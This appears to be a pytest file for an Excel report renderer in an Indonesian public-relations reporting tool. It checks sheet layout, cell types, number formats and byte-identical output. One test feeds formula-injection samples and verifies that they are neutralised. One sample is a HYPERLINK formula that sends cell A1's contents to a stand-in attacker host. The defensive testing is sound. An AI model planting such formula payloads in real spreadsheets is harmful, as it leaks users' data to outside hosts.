"""The report's XLSX read back with openpyxl: typed cells equal the report's rows; text is never a formula."""

import io
import zipfile
from dataclasses import replace
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from humas.reports.document import Column, Section, Table
from humas.reports.render.xlsx import render_xlsx, sheet_title, table_name
from tests.reports.sample import sample_report

MAKASSAR = ZoneInfo("Asia/Makassar")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 812-3456-7890",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+1",
    "teks biasa <b>tebal</b> & lain\x07",
)


def _workbook(report) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report)))


def _expected(value, kind):
    """A report cell as openpyxl reads it back (times are naive, in Makassar: UTC+8)."""
    if value is None:
        return None
    if kind == "datetime":
        return datetime.fromisoformat(value).astimezone(MAKASSAR).replace(tzinfo=None)
    if kind == "date":
        return datetime.combine(date.fromisoformat(value), datetime.min.time())  # openpyxl reads datetimes
    return value


def test_sheets_and_summary():
    wb = _workbook(sample_report())
    assert wb.sheetnames == ["Ringkasan", "Responsivitas", "Publikasi", "Pemantauan", "Definisi"]
    summary = {row[0]: row[1] for row in wb["Ringkasan"].iter_rows(max_row=8, values_only=True)}
    assert summary["Instansi"] == "Kementerian Contoh"
    assert summary["Periode"] == "November 2026"
    assert summary["Dibuat (WITA)"] == datetime(2026, 12, 1, 9, 0)  # 01:00 UTC in the unit's zone
    rows = list(wb["Ringkasan"].iter_rows(min_row=10, values_only=True))
    assert rows[0][:5] == ("Ukuran", "Nilai", "Periode sebelumnya", "Perubahan", "Selisih")
    received = next(r for r in rows if r[5] == "inbox.received")
    assert received[1:3] == (1234, 1100)
    assert received[3] == pytest.approx(134 / 1100)
    rate = next(r for r in rows if r[5] == "inbox.response_rate")
    # a share changes by its difference in points (as the PDF's "▲ 7,5 poin"), never a relative change
    assert rate[1] == 0.875 and rate[3] is None and rate[4] == pytest.approx(0.075)


def test_every_table_equals_the_report_rows():
    report = sample_report()
    wb = _workbook(report)
    tables = [(s, t) for s in report.sections for t in s.tables]
    assert tables
    for index, (section, table) in enumerate(tables, 1):
        ws = wb[section.title]
        excel = ws.tables[table_name(index, table.key)]
        cells = [[c.value for c in row] for row in ws[excel.ref]]
        header, body = cells[0], cells[1:]
        assert header == ["Teks", "Terbit (WITA)", "Jangkauan", "Tingkat keterlibatan"]
        assert body == [
            [_expected(v, c.kind) for v, c in zip(row, table.columns, strict=True)] for row in table.rows
        ]
        first = ws[excel.ref][1]
        assert isinstance(first[2].value, int) and first[2].number_format == "#,##0"
        assert first[3].number_format == "0.0%"
        assert first[1].is_date and first[1].number_format == "dd/mm/yyyy hh:mm"
        # the definition sits under the table
        below = ws.cell(ws[excel.ref][-1][0].row + 1, 1).value
        assert below == "Definisi: " + table.definition


def test_formula_injection_is_neutralised():
    columns = (Column("text", "Teks"), Column("n", "Jumlah", "count"))
    table = Table("hostile", "=Judul jahat", columns, tuple((text, -5) for text in HOSTILE))
    report = replace(sample_report(), sections=(Section("x", "=Bagian", tables=(table,)),))
    data = render_xlsx(report)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in sheets and "<f " not in sheets  # not one formula in the file
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet_title("=Bagian", set())]
    excel = ws.tables[table_name(1, "hostile")]
    body = [[c for c in row] for row in ws[excel.ref]][1:]
    for (text_cell, number_cell), text in zip(body, HOSTILE, strict=True):
        assert text_cell.data_type == "s"
        assert text_cell.value == text.replace("\x07", "")  # kept as written, less the control character
        assert text_cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t"))
        assert number_cell.value == -5 and number_cell.data_type == "n"  # a negative number stays a number
    assert ws["A1"].value == "=Judul jahat" and ws["A1"].data_type == "s"


def test_definitions_sheet_and_english():
    wb = _workbook(sample_report(locale="en"))
    assert wb.sheetnames[0] == "Summary" and wb.sheetnames[-1] == "Definitions"
    rows = list(wb["Definitions"].iter_rows(values_only=True))
    assert rows[0] == ("Section", "Name", "Key", "Definition")
    keys = [r[2] for r in rows[1:]]
    assert "publishing.best_posts" in keys and keys.count("inbox.received") == 1
    best = next(r for r in rows if r[2] == "publishing.best_posts")
    assert best[3].startswith("Keterlibatan = suka")
    assert wb["Publikasi"]["B3"].number_format == "yyyy-mm-dd hh:mm"


def test_odd_cells_and_sheet_names():
    columns = (Column("a", "Jumlah", "count"), Column("a2", "Jumlah", "date"), Column("c", "", "percent"))
    rows = (("bukan angka", "bukan tanggal", None), (True, None, float("inf")), (1,))  # odd, and a short row
    table = Table("odd", "Aneh", columns, rows)
    sections = (
        Section("a", "Bagian: [satu]/dua*?", tables=(table,)),
        Section("b", "Bagian: [satu]/dua*?"),
        Section("c", "x" * 40, tables=(Table("empty", "Kosong", columns, ()),)),
    )
    wb = _workbook(replace(sample_report(), sections=sections))
    assert wb.sheetnames[1:4] == ["Bagian   satu  dua", "Bagian   satu  dua (2)", "x" * 31]
    ws = wb.worksheets[1]
    excel = ws.tables[table_name(1, "odd")]
    cells = [[c.value for c in row] for row in ws[excel.ref]]
    assert cells[0] == ["Jumlah", "Jumlah (2)", "#3"]  # Excel tables need distinct headers
    assert cells[1] == ["bukan angka", "bukan tanggal", None]
    assert cells[2] == ["True", None, "inf"]
    assert cells[3] == [1, None, None]
    assert "Tidak ada data." in [c.value for c in wb.worksheets[3]["A"]]


def test_same_report_same_bytes():
    report = sample_report()
    assert render_xlsx(report) == render_xlsx(report)
